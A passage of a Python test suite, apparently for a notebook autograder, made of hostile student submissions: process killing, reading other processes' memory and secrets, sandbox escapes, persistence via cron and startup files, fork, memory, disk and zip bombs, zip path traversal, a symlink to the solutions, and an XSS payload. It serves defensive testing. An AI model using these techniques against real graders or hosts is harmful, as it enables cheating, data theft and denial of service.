    for spec in (b'["U0", [1099511627776]]', b'["f8", [-1]]', b'["O", [1]]', b'["V9", [1]]'):
        write(frame(b'["value", {"array": ' + spec + b"}]", b"\0" * 16))


@code("harm", honest=["shifted_ppmi"])
def garbage_in_every_pipe():
    """Escribe basura en todo lo que esté abierto."""
    for fd in range(3, 256):
        try:
            os.set_blocking(fd, False)
            os.write(fd, b"\x00" * 4096)
        except OSError:
            continue


@code("harm", honest=["shifted_ppmi"])
def messages_are_stolen():
    """Lee de todo lo que esté abierto, por si es el mensaje de otro."""
    for fd in range(256):
        try:
            os.set_blocking(fd, False)
            os.read(fd, 65_536)
        except OSError:
            continue


@code("harm", honest=["shifted_ppmi"])
def everything_is_closed():
    """Cierra todo lo que esté abierto."""
    os.closerange(0, 4096)


@code("harm", honest=["shifted_ppmi"])
def process_exits():
    """Termina el proceso sin decir nada."""
    os._exit(0)


@code("harm", honest=["shifted_ppmi"])
def process_exits_when_called():
    """Termina el proceso al primer uso de la respuesta."""

    def word_tokens(text):
        os._exit(0)

    def build_vocabulary(documents, size):
        os._exit(0)


@code("harm", honest=["shifted_ppmi"])
def exceptions_outside_the_usual():
    """Lanza excepciones que pocos capturan."""

    class Odd(BaseException):
        def __str__(self):
            raise KeyboardInterrupt

        __repr__ = __str__

    def word_tokens(text):
        raise Odd

    def build_vocabulary(documents, size):
        raise KeyboardInterrupt

    raise Odd


@code("harm", honest=["shifted_ppmi"])
def memory_is_corrupted():
    """Lee una dirección que no existe y vuelca la memoria a disco."""
    import ctypes
    import resource

    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    except (ValueError, OSError):
        pass
    ctypes.string_at(0)


@code("harm", honest=["shifted_ppmi"])
def parent_is_killed():
    """Mata al proceso que lo creó."""
    import signal

    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGKILL)


@code("harm", honest=["shifted_ppmi"])
def parent_is_interrupted():
    """Interrumpe al proceso que lo creó."""
    import signal

    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGINT)


@code("harm", honest=["shifted_ppmi"])
def parent_is_stopped():
    """Deja parado al proceso que lo creó."""
    import signal

    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGSTOP)


@code("harm", honest=["shifted_ppmi"])
def parent_is_starved():
    """Quita al proceso que lo creó el derecho a abrir archivos."""
    import resource

    if os.getppid() > 1:
        resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0))


@code("harm", honest=["shifted_ppmi"])
def group_is_killed():
    """Manda una señal a todo su grupo de procesos."""
    import signal

    os.kill(0, signal.SIGKILL)


@code("harm", honest=["shifted_ppmi"])
def stranger_is_killed():
    """Mata un proceso ajeno que encuentra en /proc."""
    import signal

    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if ("victima-" + RUN).encode() in open(f"/proc/{pid}/cmdline", "rb").read():
                os.kill(int(pid), signal.SIGKILL)
        except OSError:
            continue


@code("harm", honest=["shifted_ppmi"])
def stranger_is_traced():
    """Se engancha como depurador a los procesos del corrector que ve."""
    import ctypes

    PTRACE_SEIZE = 0x4206
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            if b"vinogpt" in file.read() and int(pid) != os.getpid():
                if libc.ptrace(PTRACE_SEIZE, int(pid), None, None) == 0:
                    got("depurar otro proceso")


@code("harm", honest=["shifted_ppmi"])
def memory_of_others_is_opened():
    """Abre para escribir la memoria de otros procesos del corrector."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            command = open(f"/proc/{pid}/cmdline", "rb").read()
            if b"vinogpt" in command and pid != os.readlink("/proc/self"):
                open(f"/proc/{pid}/mem", "r+b")
                got("abrir la memoria de otro")
        except OSError:
            continue


@code("harm", honest=["shifted_ppmi"])
def course_files_are_deleted():
    """Borra archivos del curso."""
    for path in [COURSE + "/" + RUN + ".txt", "../../../" + RUN + ".txt"]:
        try:
            os.remove(path)
        except OSError:
            continue


@code("harm", honest=["shifted_ppmi"])
def gradebook_is_locked():
    """Bloquea la base de datos desde un proceso que sobrevive."""
    import subprocess
    import sys

    program = (
        "import sqlite3, sys, time; db = sqlite3.connect(sys.argv[1]);"
        "db.execute('BEGIN EXCLUSIVE'); time.sleep(60)"
    )
    for path in [COURSE + "/gradebook.db", "../../../gradebook.db"]:
        if os.path.exists(path):
            subprocess.Popen([sys.executable, "-c", program, path, TOKEN], start_new_session=True)


@code("harm", honest=["shifted_ppmi"])
def files_everywhere():
    """Deja archivos en todas las carpetas donde pueda."""
    home = os.path.expanduser("~")
    for place in [OUTSIDE, COURSE, home, "/tmp", "/var/tmp", "/dev/shm", "/run", "/etc", "/", ".."]:
        try:
            open(os.path.join(place, TOKEN), "w").write(TOKEN)
        except OSError:
            continue


@code("harm", honest=["shifted_ppmi"])
def startup_of_python_and_ipython():
    """Deja programas que Python e IPython ejecutan al arrancar."""
    import site
    import sysconfig

    home = os.path.expanduser("~")
    places = [home + "/.ipython/profile_default/startup", home + "/.jupyter", home + "/.config"]
    places += [site.getusersitepackages(), sysconfig.get_path("purelib"), home]
    for place in places:
        try:
            os.makedirs(place, exist_ok=True)
            for suffix in (".py", ".pth"):
                open(os.path.join(place, TOKEN + suffix), "w").write("# " + TOKEN)
        except OSError:
            continue


@code("harm", honest=["shifted_ppmi"])
def shared_memory_is_left():
    """Deja memoria compartida, semáforos y colas que otros pueden leer."""
    import ctypes
    from multiprocessing import shared_memory

    libc = ctypes.CDLL(None)
    libc.shmget(int(RUN, 16) & 0x7FFFFFFF, 4096, 0o1666)
    libc.semget(int(RUN, 16) & 0x7FFFFFFF, 1, 0o1666)
    libc.msgget(int(RUN, 16) & 0x7FFFFFFF, 0o1666)
    libc.sem_open(("/" + TOKEN).encode(), os.O_CREAT, 0o666, 1)
    shared_memory.SharedMemory(TOKEN, create=True, size=4096)


@code("harm", honest=["shifted_ppmi"])
def key_is_left_in_the_kernel():
    """Deja una clave en los llaveros del núcleo, que otros procesos heredan."""
    import ctypes
    import platform

    ADD_KEY = {"x86_64": 248, "aarch64": 217}[platform.machine()]
    for ring in (-3, -4, -5):  # de la sesión, de la persona y de su sesión
        text = TOKEN.encode()
        ctypes.CDLL(None).syscall(ADD_KEY, b"user", text, text, len(text), ring)


# --- Daño: un estudiante ayuda a otro --------------------------------------------------------

PLACES = """
import glob, os, socket, sys
folders = ["/tmp", "/dev/shm", "/var/tmp", "/run", "..", ".", os.path.expanduser("~"), OUTSIDE]
shared = [os.path.join(folder, "notas-" + RUN) for folder in folders]
"""


@code("points", before=PLACES, honest=["words"])
def relay_1_leaves_its_answers():
    """Hace su ejercicio y deja el texto donde otro pueda encontrarlo."""
    from multiprocessing import shared_memory

    for path in shared:
        try:
            open(path, "w").write(NOTES)
        except OSError:
            continue
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\0notas-" + RUN)
    listener.listen()
    memory = shared_memory.SharedMemory("notas" + RUN, create=True, size=65_536)
    memory.buf[: len(NOTES.encode())] = NOTES.encode()
    if os.fork() == 0:
        import time

        os.setsid()
        time.sleep(20)
        os._exit(0)


@code("points", before=PLACES)
def relay_2_takes_the_answers():
    """Busca el texto que otro dejó y lo ejecuta."""
    from multiprocessing import shared_memory

    for path in shared:
        if os.path.exists(path):
            exec(open(path).read(), globals())
    for path in glob.glob("/proc/[0-9]*/ro[o]t/tmp/notas-" + RUN):
        exec(open(path).read(), globals())
    try:
        memory = shared_memory.SharedMemory("notas" + RUN)
        exec(bytes(memory.buf).rstrip(b"\0").decode(), globals())
    except OSError:
        pass
    try:
        socket.socket(socket.AF_UNIX).connect("\0notas-" + RUN)
        got("hablar con otro estudiante")
    except OSError:
        pass


# --- Fugas -----------------------------------------------------------------------------------


@code("leak", honest=["shifted_ppmi"])
def secrets_in_the_environment():
    """Lee las variables de entorno de todos los procesos que ve."""
    import glob

    for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ")]:
        try:
            if b"secreto-" + RUN.encode() in open(path, "rb").read():
                got("leer un secreto del entorno")
        except OSError:
            continue


@code("leak", honest=["shifted_ppmi"])
def hidden_checks_are_read():
    """Busca el texto de las pruebas ocultas en los archivos que alcanza."""
    import glob

    mark = ("BEGIN " + "HIDDEN TESTS").encode()
    for place in [".", "..", "../..", "../../..", COURSE]:
        for inside in ("/*.db", "/*.ipynb", "/*/*.ipynb", "/*/*/*.ipynb", "/*/*/*/*.ipynb"):
            for path in glob.glob(place + inside):
                if mark in open(path, "rb").read():
                    got("leer las pruebas ocultas")


@code("leak", honest=["shifted_ppmi"])
def hidden_checks_in_memory():
    """Busca el texto de las pruebas ocultas en la memoria propia y en la de quien lo creó."""
    import sys

    mark = re.compile(rb"def bpe_equals_[b]rute_force")  # así no se encuentra a sí misma
    for pid in ("self", str(os.getppid())):
        try:
            if b"vinogpt" not in open(f"/proc/{pid}/cmdline", "rb").read() and pid != "self":
                continue
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    if " rw-p " in line and end - start < 2**27:
                        memory.seek(start)
                        if mark.search(memory.read(end - start)):
                            got("leer las pruebas ocultas en memoria")
        except OSError:
            continue


@code("leak", honest=["shifted_ppmi"])
def hidden_inputs_in_the_reason():
    """Copia en su mensaje de error las entradas ocultas, que otra entrega ya no recibirá."""

    def word_tokens(text):
        raise ValueError(text)


@code("leak", honest=["shifted_ppmi"])
def files_of_the_teacher():
    """Lee archivos personales y del curso."""
    for path in [COURSE + "/" + RUN + ".txt", os.path.expanduser("~") + "/" + RUN + ".txt"]:
        if os.path.exists(path) and RUN in open(path).read():
            got("leer un archivo del curso")


@code("leak", honest=["shifted_ppmi"])
def local_network():
    """Se conecta a un servicio de este equipo."""
    import socket

    for address in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
        try:
            with socket.create_connection((address, PORT), timeout=1) as connection:
                connection.sendall(TOKEN.encode())
        except OSError:
            continue
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(TOKEN.encode(), ("127.0.0.1", PORT))


@code("leak", honest=["shifted_ppmi"])
def network_interfaces():
    """Mira si hay otra red que la propia del proceso, y resuelve un nombre."""
    import socket

    names = [name for _, name in socket.if_nameindex() if name != "lo"]
    try:
        socket.getaddrinfo("localhost.invalid.", 80)
        names.append("dns")
    except OSError:
        pass
    routes = open("/proc/net/route").read().count("\n") > 1
    if names and routes:
        got("ver la red")


@code("leak", honest=["shifted_ppmi"])
def local_sockets():
    """Se conecta a los servicios que escuchan en un archivo o en un nombre abstracto."""
    import socket

    for address in (OUTSIDE + "/servicio", "\0servicio-" + RUN):
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(address)
                connection.sendall(TOKEN.encode())
        except OSError:
            continue


@code("leak", honest=["shifted_ppmi"])
def others_are_listed():
    """Mira si ve los procesos de quien califica."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if ("victima-" + RUN).encode() in open(f"/proc/{pid}/cmdline", "rb").read():
                got("ver procesos ajenos")
        except OSError:
            continue


# --- Supervivencia ---------------------------------------------------------------------------

SLEEP = "import time; time.sleep(300)"


@code("survive", before=f"SLEEP = {SLEEP!r}\n", honest=["shifted_ppmi"])
def daemon():
    """Deja un proceso en otra sesión."""
    import subprocess
    import sys

    subprocess.Popen([sys.executable, "-c", SLEEP, TOKEN], start_new_session=True)


@code("survive", before=f"SLEEP = {SLEEP!r}\n", honest=["shifted_ppmi"])
def daemon_of_a_daemon():
    """Deja el nieto de un proceso que ya terminó, sordo a las señales."""
    import signal
    import subprocess
    import sys

    for name in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(name, signal.SIG_IGN)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(64):
                try:
                    os.close(fd)
                except OSError:
                    continue
            os.execv(sys.executable, [sys.executable, "-c", SLEEP, TOKEN])
        os._exit(0)


@code("survive", before=f"SLEEP = {SLEEP!r}\n", honest=["shifted_ppmi"])
def stopped_process():
    """Deja un proceso parado, que no atiende señales corrientes."""
    import signal
    import subprocess
    import sys

    child = subprocess.Popen([sys.executable, "-c", SLEEP, TOKEN], start_new_session=True)
    os.kill(child.pid, signal.SIGSTOP)


@code("survive", honest=["shifted_ppmi"])
def file_outside():
    """Deja un archivo en una carpeta ajena."""
    open(OUTSIDE + "/" + TOKEN, "w").write("x")


@code("survive", honest=["shifted_ppmi"])
def farewell():
    """Deja trabajo para cuando termine el proceso: atexit, hilos y destructores."""
    import atexit
    import threading
    import time

    def write():
        try:
            open(OUTSIDE + "/" + TOKEN, "a").write("x")
        except OSError:
            return

    class Last:
        def __del__(self):
            write()

    def later():
        time.sleep(2)
        write()

    last = Last()
    atexit.register(write)
    threading.Thread(target=later).start()


@code("survive", honest=["shifted_ppmi"])
def scheduled_work():
    """Encarga trabajo al sistema para más tarde."""
    import subprocess

    for command in (["crontab", "-"], ["at", "now"], ["systemd-run", "--user", "touch"]):
        try:
            line = f"* * * * * touch {OUTSIDE}/{TOKEN}\n"
            subprocess.run(command, input=line.encode(), capture_output=True, timeout=5)
        except (OSError, subprocess.SubprocessError):
            continue
    try:
        open("/var/spool/cron/" + TOKEN, "w").write("#" + TOKEN)
    except OSError:
        pass


# --- Supervivencia: salir del aislamiento ----------------------------------------------------


@code("survive", honest=["shifted_ppmi"])
def new_namespaces():
    """Crea espacios de nombres propios y vuelve a montar el disco para escribir."""
    import ctypes

    libc = ctypes.CDLL(None)
    libc.unshare(0x10000000 | 0x00020000)  # personas y montajes
    libc.mount(None, b"/", None, 32 | 4096, None)  # otra vez, con escritura
    open(OUTSIDE + "/" + TOKEN, "w").write("x")


@code("survive", honest=["shifted_ppmi"])
def namespaces_of_others():
    """Entra en los espacios de nombres de otros procesos."""
    import ctypes
    import glob

    for path in glob.glob("/proc/[0-9]*/ns/mnt") + glob.glob("/proc/[0-9]*/ns/user"):
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        ctypes.CDLL(None).setns(fd, 0)
    open(OUTSIDE + "/" + TOKEN, "w").write("x")


@code("survive", honest=["shifted_ppmi"])
def roots_of_others():
    """Escribe a través de la raíz y de las carpetas de otros procesos."""
    import glob

    for root in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        for name in (OUTSIDE + "/" + TOKEN, "/" + TOKEN, "/tmp/" + TOKEN):
            if os.path.realpath(root) != os.path.realpath("/"):
                try:
                    open(root + name, "w").write("x")
                except OSError:
                    continue


@code("survive", honest=["shifted_ppmi"])
def another_root():
    """Cambia de raíz y sale de ella por una carpeta abierta."""
    os.makedirs("dentro", exist_ok=True)
    fd = os.open("/", os.O_RDONLY)
    os.chroot("dentro")
    os.fchdir(fd)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    open(OUTSIDE + "/" + TOKEN, "w").write("x")


@code("survive", honest=["shifted_ppmi"])
def disk_is_read():
    """Crea el dispositivo del disco y lo lee."""
    os.mknod("disco", 0o60600, os.stat("/").st_dev)
    if open("disco", "rb").read(16):
        got("leer el disco")


@code("survive", honest=["shifted_ppmi"])
def kernel_settings():
    """Abre para escribir ajustes del núcleo que afectan a todo el equipo."""
    import glob

    paths = ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe"]
    paths += ["/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register", "/proc/1/oom_adj"]
    paths += glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)
    paths += glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)
    for path in paths:
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        got("abrir " + re.sub(r"\W", " ", path))


@code("survive", honest=["shifted_ppmi"])
def kernel_doors():
    """Llama a puertas del núcleo que solo abre quien administra el equipo."""
    import ctypes
    import errno
    import platform

    libc = ctypes.CDLL(None, use_errno=True)
    FINIT_MODULE = {"x86_64": 313, "aarch64": 273}[platform.machine()]
    doors = {
        "módulos": lambda: libc.syscall(FINIT_MODULE, -1, b"", 0),
        "memoria de intercambio": lambda: libc.swapoff(b"/no/existe"),
        "puertos": lambda: libc.iopl(3),
    }
    for name, knock in doors.items():
        ctypes.set_errno(0)
        if knock() == 0 or ctypes.get_errno() in (errno.EBADF, errno.ENOENT):
            got("puerta " + name)


@code("survive", honest=["shifted_ppmi"])
def unusual_calls():
    """Usa las llamadas al núcleo de las que han salido más fallos."""
    import ctypes
    import platform

    libc = ctypes.CDLL(None)
    numbers = {"x86_64": (425, 298, 323, 321), "aarch64": (425, 241, 282, 280)}
    for number in numbers[platform.machine()]:  # io_uring, perf, userfaultfd y bpf
        fd = libc.syscall(number, 4, ctypes.create_string_buffer(256), 0, 0, 0)
        if fd > 2:
            os.close(fd)


@code("survive", honest=["shifted_ppmi"])
def privileged_programs():
    """Usa programas que se ejecutan con permisos de otra persona."""
    import subprocess

    for command in (["su", "-c"], ["sudo", "-n", "sh", "-c"], ["pkexec", "sh", "-c"]):
        try:
            order = [*command, f"touch {OUTSIDE}/{TOKEN}"]
            subprocess.run(order, stdin=subprocess.DEVNULL, capture_output=True, timeout=5)
        except (OSError, subprocess.SubprocessError):
            continue


@code("survive", honest=["shifted_ppmi"])
def limits_are_raised():
    """Sube los límites que le han puesto."""
    import resource

    for name in ("RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_AS"):
        limit = getattr(resource, name)
        hard = resource.getrlimit(limit)[1]
        if hard != resource.RLIM_INFINITY:
            try:
                resource.setrlimit(limit, (hard + 1, hard + 1))
            except (OSError, ValueError):
                continue
            got("subir " + name)


# --- Agotar recursos, con tope ---------------------------------------------------------------


@code("exhaust", honest=["shifted_ppmi"])
def endless_loop():
    """No termina nunca de definirse (tope: 100 s)."""
    import time

    end = time.monotonic() + 100
    while time.monotonic() < end:
        pass


@code("exhaust", cell="analogy_mul", honest=["shifted_ppmi"])
def endless_loop_when_called():
    """No termina nunca de contestar (tope: 100 s)."""
    import time

    def analogy_mul(E, a, b, c, k):
        end = time.monotonic() + 100
        while time.monotonic() < end:
            pass
        return []


@code("exhaust", honest=["shifted_ppmi"])
def loop_deaf_to_signals():
    """Un bucle que no atiende señales ni excepciones (tope: 100 s)."""
    import signal
    import time

    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    end = time.monotonic() + 100
    while time.monotonic() < end:
        try:
            time.sleep(0)
        except BaseException:
            continue


@code("exhaust", honest=["shifted_ppmi"])
def sleep():
    """Duerme sin gastar CPU (tope: 1000 s)."""
    import time

    time.sleep(1000)


@code("exhaust", honest=["shifted_ppmi"])
def input_is_awaited():
    """Espera algo que nadie va a escribir."""
    import signal

    reader, _writer = os.pipe()
    signal.alarm(1000)
    os.read(reader, 1)


@code("exhaust", honest=["shifted_ppmi"])
def memory_bomb():
    """Pide memoria hasta que se acabe (tope: 5 GB)."""
    kept = []
    for _ in range(80):
        kept.append(bytearray(2**26))
        kept[-1][:: 2**12] = bytes(2**14)
    got("5 GB de memoria")


@code("exhaust", honest=["shifted_ppmi"])
def memory_of_many():
    """Reparte la memoria entre procesos (tope: 16 de 320 MB)."""
    import time

    children = []
    for _ in range(16):
        child = os.fork()
        if child == 0:
            data = bytearray(320 * 2**20)
            data[:: 2**12] = bytes(len(data) // 2**12)
            time.sleep(20)
            os._exit(7)
        children.append(child)
    if [os.waitpid(child, 0)[1] for child in children] == [7 << 8] * 16:
        got("5 GB entre 16 procesos")


@code("exhaust", honest=["shifted_ppmi"])
def process_bomb():
    """Crea procesos hasta que no pueda (tope: 300)."""
    import time

    for number in range(300):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    got("300 procesos")


@code("exhaust", honest=["shifted_ppmi"])
def thread_bomb():
    """Crea hilos hasta que no pueda (tope: 600)."""
    import threading
    import time

    threading.stack_size(2**16)
    for number in range(600):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    got("600 hilos")


@code("exhaust", honest=["shifted_ppmi"])
def descriptor_bomb():
    """Abre archivos hasta que no pueda (tope: 200 000)."""
    kept = []
    try:
        for _ in range(200_000):
            kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass


@code("exhaust", honest=["shifted_ppmi"])
def disk_bomb():
    """Llena todo lugar donde pueda escribir (tope: 2 GB en cada uno)."""
    block = bytes(2**24)
    for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), OUTSIDE):
        try:
            with open(os.path.join(place, TOKEN), "wb") as file:
                for _ in range(128):
                    file.write(block)
        except OSError:
            continue
        os.remove(os.path.join(place, TOKEN))
        got("escribir 2 GB")


@code("exhaust", honest=["shifted_ppmi"])
def file_bomb():
    """Crea archivos vacíos sin fin (tope: 30 000)."""
    for number in range(30_000):
        open(f"{number}", "w").close()


@code("exhaust", honest=["shifted_ppmi"])
def endless_printing():
    """Escribe sin parar (tope: 100 s)."""
    import sys
    import time

    end = time.monotonic() + 100
    while time.monotonic() < end:
        print("a" * 10_000, file=sys.stderr)
        print("a" * 10_000)


@code("exhaust", honest=["shifted_ppmi"])
def one_long_line():
    """Escribe una línea de 50 MB."""
    print("a" * 50_000_000)


@code("exhaust", honest=["shifted_ppmi"])
def long_error():
    """Falla con un mensaje de 50 MB."""
    raise ValueError("a" * 50_000_000)


@code("exhaust", honest=["shifted_ppmi"])
def giant_list():
    """Devuelve diez millones de elementos."""

    def word_tokens(text):
        return ["a"] * 10_000_000

    def build_vocabulary(documents, size):
        return list(range(10_000_000))


@code("exhaust", cell="shifted_ppmi", honest=["masked_mean"])
def giant_array():
    """Devuelve un array de 4 GB que ocupa 8 bytes."""

    def shifted_ppmi(counts, alpha, k):
        return np.broadcast_to(np.float64(1), (2**15, 2**14))


@code("exhaust", honest=["shifted_ppmi"])
def deep_list():
    """Devuelve una lista con cien mil niveles."""

    def word_tokens(text):
        x = []
        for _ in range(100_000):
            x = [x]
        return x

    build_vocabulary = word_tokens


@code("exhaust", honest=["shifted_ppmi"])
def endless_recursion():
    """Se llama a sí misma sin fin, con el límite de Python quitado."""
    import sys

    sys.setrecursionlimit(10**9)

    def word_tokens(text):
        return word_tokens(text)

    def build_vocabulary(documents, size):
        return [repr(x) for x in map(build_vocabulary, [documents], [size])]


@code("exhaust", cell="bpe_encode", honest=["shifted_ppmi"])
def ranges_without_end():
    """Devuelve posiciones enormes, para que las recorra quien comprueba."""

    def bpe_encode(text, merges):
        return [[text, 0, 10**15]]


@code("exhaust", cell="bpe_encode", honest=["shifted_ppmi"])
def many_small_pieces():
    """Devuelve millones de piezas vacías, que el texto sí contiene."""

    def bpe_encode(text, merges):
        return [["", 0, 0]] * 2_000_000


@code("exhaust", cell="shifted_ppmi", honest=["masked_mean"])
def tensorflow_spins():
    """Carga TensorFlow y llama a sus funciones sin fin (tope: 100 s)."""
    import time

    import tensorflow as tf

    end = time.monotonic() + 100
    while time.monotonic() < end:
        tf.constant(1.0) + 1


@edited("exhaust")
def thousands_of_cells(cells, book, world):
    """Añade cinco mil celdas: el cuaderno se rechaza entero."""
    cell = {"cell_type": "code", "source": "1", "metadata": {}, "outputs": []}
    extra = [{**cell, "id": f"x{i}", "execution_count": None} for i in range(5000)]
    return cells + extra


@edited("exhaust", honest=["shifted_ppmi"])
def giant_outputs(cells, book, world):
    """Guarda 30 MB de salidas."""
    output = {"output_type": "stream", "name": "stdout", "text": "a" * 30_000_000}
    for cell in cells:
        if cell["cell_type"] == "code":
            cell["outputs"] = [output]
            return cells


@edited("exhaust", honest=["shifted_ppmi"])
def giant_answer(cells, book, world):
    """Escribe una respuesta de 5 MB."""
    for cell in cells:
        if grade_id(cell) == "words":
            cell["source"] = "x = " + "-" * 5_000_000 + "1"
    return cells


@edited("exhaust", honest=["shifted_ppmi"])
def deep_expressions(cells, book, world):
    """Escribe expresiones con miles de niveles, de todas las formas."""
    deep = ["(" * 150 + ")" * 150, "-" * 4000 + "1", "a" + ".b" * 3000, "f" + "(0)" * 1500]
    deep += [
        "[" * 90 + "]" * 90,
        "not " * 2000 + "1",
        "1" + "+1" * 4000,
        "x if 1 else " * 500 + "1",
    ]
    for cell, text in zip(cells[3:], deep * 6, strict=False):
        if cell["cell_type"] == "code" and grade_id(cell) != "shifted_ppmi":
            cell["source"] = "x = " + text
    return cells


@files("exhaust")
def deep_notebook(book, world):
    """Entrega un JSON con un millón de niveles."""
    return {NAME: b"[" * 1_000_000}


@files("exhaust")
def empty_giant_file(book, world):
    """Entrega un archivo de 100 GB que no ocupa disco."""
    return {NAME: lambda path: (open(path, "wb").close(), os.truncate(path, 100 * 2**30))}


@files("exhaust")
def pipe_instead_of_a_file(book, world):
    """Entrega una tubería, que nadie llena."""
    return {NAME: os.mkfifo}


@files("exhaust")
def deep_folders(book, world):
    """Entrega cientos de carpetas, una dentro de otra."""
    return {NAME: packed(book.release), "a/" * 300 + "x": b""}


def zipped(*members):
    """Un zip como lo haría un estudiante, con esos pares de nombre y contenido."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return data.getvalue()


@files("exhaust")
def zip_bomb(book, world):
    """Entrega un zip de 250 kB que se hincha hasta 256 MB."""
    return {"entrega.zip": zipped((NAME, bytes(2**28)))}


@files("exhaust")
def zip_of_zips(book, world):
    """Entrega zips dentro de zips."""
    content = packed(book.release)
    for _ in range(50):
        content = zipped(("entrega.zip", content))
    return {"entrega.zip": content}


@files("exhaust")
def zip_of_many_files(book, world):
    """Entrega un zip con veinte mil cuadernos."""
    return {"entrega.zip": zipped(*((f"{number}.ipynb", b"{}") for number in range(20_000)))}


@files("exhaust")
def many_notebooks(book, world):
    """Entrega dos mil cuadernos, y todos parecen el bueno."""
    return {f"{STEM} ({number}).ipynb": packed(book.release) for number in range(2000)}


# --- Entrega: nombres y archivos extraños ----------------------------------------------------


@files("harm")
def zip_climbs(book, world):
    """El zip lleva nombres que salen de su carpeta."""
    names = [f"../../{world.token}", f"{world.outside}/{world.token}", "..\\..\\" + world.token]
    return {"entrega.zip": zipped(*((name + ".ipynb", packed(book.release)) for name in names))}


@files("points")
def zip_links(book, world):
    """El zip lleva un enlace a las soluciones en lugar del cuaderno."""
    link = zipfile.ZipInfo(NAME)
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return {"entrega.zip": zipped((link, f"{world.course}/solutions/{STEM}/{NAME}"))}


@files("harm")
def zip_is_damaged(book, world):
    """El zip tiene dañado el contenido."""
    content = bytearray(zipped((NAME, packed(book.release))))
    content[200:220] = bytes(20)
    return {"entrega.zip": bytes(content)}


@files("harm")
def zip_with_a_password(book, world):
    """El zip dice que está cifrado y por métodos que nadie conoce."""
    content = bytearray(zipped((NAME, packed(book.release))))
    start = content.index(b"PK\1\2")
    content[6], content[start + 8], content[8], content[start + 10] = 1, 1, 99, 99
    return {"entrega.zip": bytes(content)}


@files("harm")
def links_to_the_system(book, world):
    """Acompaña el cuaderno de enlaces a archivos y carpetas del equipo."""
    secret = f"{world.course}/{world.run}.txt"
    return {
        NAME: packed(book.release),
        "notas.txt": lambda path: os.symlink(secret, path),
        "carpeta": lambda path: os.symlink("/", path),
        "bucle": lambda path: os.symlink("..", path),
    }


@files("harm")
def folder_instead_of_a_file(book, world):
    """Entrega una carpeta con el nombre del cuaderno."""
    return {f"{NAME}/{NAME}": packed(book.release)}


@files("harm")
def not_a_notebook(book, world):
    """Entrega bytes que no son un cuaderno."""
    return {NAME: bytes(range(256)) * 100}


@files("harm")
def odd_json(book, world):
    """Entrega JSON con tipos que nadie espera en cada sitio."""
    cells = [None, [], "x", {"cell_type": ["code"], "source": {"a": 1}, "metadata": []}]
    return {NAME: json.dumps({"cells": cells, "metadata": None, "nbformat": "4"}).encode()}


@edited("harm", honest=["shifted_ppmi"])
def odd_cells(cells, book, world):
    """Pone en algunas celdas tipos que nadie espera."""
    odd = [
        {"cell_type": "code", "source": 7, "metadata": {"nbgrader": {"grade_id": ["words"]}}},
        {"cell_type": ["code"], "source": None, "metadata": {"nbgrader": "words"}},
        {"source": ["a", 1, None], "metadata": None},
    ]
    return cells + odd


@edited("harm", honest=["shifted_ppmi"])
def copied_check(cells, book, world):
    """Copia una celda de comprobación, con su identificador."""
    copies = [cell for cell in cells if grade_id(cell).startswith("words_")]
    return cells + copies


@edited("harm", honest=["shifted_ppmi"])
def future_schema(cells, book, world):
    """Escribe en una celda una versión de los metadatos que aún no existe."""
    cells[2]["metadata"]["nbgrader"]["schema_version"] = 99
    return cells


@edited("harm", honest=["shifted_ppmi"])
def ancient_schema(cells, book, world):
    """Escribe en una celda una versión de los metadatos abandonada."""
    cells[2]["metadata"]["nbgrader"]["schema_version"] = 1
    return cells


@edited("harm", honest=["shifted_ppmi"])
def flags_are_flipped(cells, book, world):
    """Cambia qué celdas están bloqueadas, dan puntos o son respuestas."""
    for cell in cells:
        data = cell["metadata"].get("nbgrader", {})
        if grade_id(cell) != "shifted_ppmi":
            for flag in ("grade", "solution", "locked", "task"):
                if flag in data:
                    data[flag] = not data[flag]
    return cells


# --- Inyección -------------------------------------------------------------------------------

SCRIPT = "<script>alert('{0}')</script><img src=x onerror=\"alert('{0}')\">"


@code("inject", before=f"SCRIPT = {SCRIPT!r}\n", honest=["shifted_ppmi"])
def script_in_the_error():
    """Falla con un mensaje que es un programa para el navegador."""
    raise ValueError(SCRIPT.format(TOKEN))


@code("inject", before=f"SCRIPT = {SCRIPT!r}\n", honest=["shifted_ppmi"])
